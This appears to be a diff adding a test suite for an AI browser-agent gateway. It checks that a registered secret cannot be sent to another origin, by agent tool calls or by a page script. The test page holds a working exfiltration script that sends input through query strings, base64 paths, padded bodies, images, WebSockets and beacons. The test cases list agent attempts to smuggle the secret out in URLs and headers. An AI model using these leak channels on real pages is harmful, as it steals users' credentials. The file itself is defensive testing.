@@ -1,0 +1,102 @@
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { start } from '../fixtures/gatewright.js';
+import type { Running } from '../fixtures/gatewright.js';
+import { promised } from '../fixtures/promised.js';
+import { html, startSite } from '../fixtures/site.js';
+import type { Site } from '../fixtures/site.js';
+
+const VALUE = 'zebra-Quartz_91+7';
+const HIDDEN = '%7Aebra-Quartz_91%2b7';
+const ENCODED = Buffer.from(VALUE).toString('base64');
+
+/** A page of the right origin that sends what it was given to another one, in every way that can be read on the wire. */
+const thief = (to: string) =>
+  html(`
+  <input id="key" aria-label="Key"><button>Send</button><output></output>
+  <script>
+    const elsewhere = ${JSON.stringify(to)};
+    document.querySelector('button').onclick = async () => {
+      const v = key.value;
+      const ask = (path, init) => fetch(elsewhere + path, { mode: 'no-cors', ...init }).catch(() => 0);
+      await Promise.all([
+        ask('/query?v=' + encodeURIComponent(v)),
+        ask('/' + btoa(v)),
+        ask('/body', { method: 'POST', body: 'x'.repeat(300000) + v }),
+        ask('/form', { method: 'POST', body: new URLSearchParams({ v }) }),
+        ask('/pieces', { method: 'POST', body: JSON.stringify({ v: [...v].map((c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') }) }),
+        new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = elsewhere + '/image?' + v; }),
+        new Promise((done) => { const s = new WebSocket(elsewhere.replace('http', 'ws') + '/socket?' + encodeURIComponent(v)); s.onclose = s.onerror = done; }),
+      ]);
+      navigator.sendBeacon(elsewhere + '/beacon', v);
+      document.querySelector('output').textContent = 'sent';
+    };
+  </script>`);
+
+promised('secrets-stay', () => {
+  let home: Site;
+  let other: Site;
+  let gatewright: Running;
+  beforeAll(async () => {
+    other = await startSite({ '/': html('<input aria-label="Note"><p>elsewhere</p>') });
+    home = await startSite({ '/': thief(other.origin) });
+    gatewright = await start({
+      args: [
+        '--allow-private',
+        `${home.host},${other.host}`,
+        '--capabilities',
+        'read,navigation,action,human,fetch,secrets',
+      ],
+    });
+  });
+  afterAll(async () => {
+    await gatewright.close();
+    await home.close();
+    await other.close();
+  });
+  const seen = () => other.seen.map(({ path, body }) => `${path} ${body}`).join('\n');
+
+  it('is kept under its name, and not under one that is taken', async () => {
+    await gatewright.call('browser_navigate', { url: home.url() });
+    const args = { name: 'KEY', value: VALUE, scope: [home.origin] };
+    expect((await gatewright.call('register_secret', args)).text).toContain('<KEY>');
+    expect((await gatewright.call('register_secret', { ...args, value: 'another-one-55' })).code).toBe(
+      'vault.name-taken',
+    );
+    expect((await gatewright.call('register_secret', { ...args, name: 'PAGE', scope: [home.url('/x')] })).code).toBe(
+      'vault.bad-secret',
+    );
+    expect((await gatewright.call('register_secret', { ...args, name: 'WEAK', value: 'aaaaaaa' })).code).toBe(
+      'vault.bad-secret',
+    );
+  });
+
+  it.each([
+    ['in an address', 'browser_navigate', (to: string) => ({ url: `${to}/?q=${VALUE}` })],
+    ['in base64 in an address', 'browser_navigate', (to: string) => ({ url: `${to}/${ENCODED}` })],
+    ['half encoded', 'browser_navigate', (to: string) => ({ url: `${to}/?q=${HIDDEN}` })],
+    ['in a new tab', 'browser_tabs', (to: string) => ({ action: 'new', url: `${to}/#${VALUE}` })],
+    ['in a fetch', 'web_fetch', (to: string) => ({ url: to, method: 'POST', body: `{"v":"${ENCODED}"}` })],
+    ['in a header', 'web_fetch', (to: string) => ({ url: to, headers: { 'x-note': VALUE } })],
+  ])('the agent cannot carry it away %s', async (_, tool, args) => {
+    expect((await gatewright.call(tool, args(other.origin))).code).toBe('policy.secret-leaving');
+    expect(seen()).toBe('');
+  });
+
+  it('nor type it on another page', async () => {
+    await gatewright.call('browser_navigate', { url: other.url() });
+    for (const value of [VALUE, ENCODED]) {
+      expect((await gatewright.call('browser_fill', { name: 'Note', value })).code).toBe('policy.secret-leaving');
+    }
+  });
+
+  it('nor does a page that was given it, in anything that is not encrypted', async () => {
+    await gatewright.call('browser_navigate', { url: home.url() });
+    expect((await gatewright.call('browser_fill', { name: 'Key', value: '<KEY>' })).isError).toBe(false);
+    await gatewright.call('browser_click', { name: 'Send', role: 'button' });
+    await gatewright.call('browser_wait_for', { text: 'sent' });
+    expect(seen()).not.toMatch(/zebra|7A?ebra|emVicm|Quartz|query|image|beacon|socket|form|pieces/iu);
+    const refused = gatewright.record().filter(({ event }) => event === 'network.refused');
+    expect(JSON.stringify(refused)).toContain('secret-leaving');
+    expect(JSON.stringify(gatewright.record())).not.toContain('zebra');
+  });
+});
